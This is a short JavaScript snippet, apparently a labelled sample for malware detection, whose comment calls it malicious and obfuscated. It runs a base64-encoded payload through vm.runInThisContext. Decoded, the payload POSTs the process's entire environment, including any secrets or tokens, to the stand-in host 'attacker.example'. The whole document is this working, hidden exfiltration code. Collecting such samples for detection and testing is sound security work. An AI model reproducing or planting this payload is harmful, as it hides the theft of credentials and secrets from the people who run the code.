// Malicious, obfuscated: vm.runInThisContext of a base64 payload that steals process.env.
const vm = require('vm');
vm.runInThisContext(Buffer.from('KGZ1bmN0aW9uKHJlcXVpcmUpe3JlcXVpcmUoJ2h0dHBzJykucmVxdWVzdCh7aG9zdDonYXR0YWNrZXIuZXhhbXBsZScscGF0aDonL2UnLG1ldGhvZDonUE9TVCd9KS5lbmQoSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpKTt9KQ==', 'base64').toString())(require);
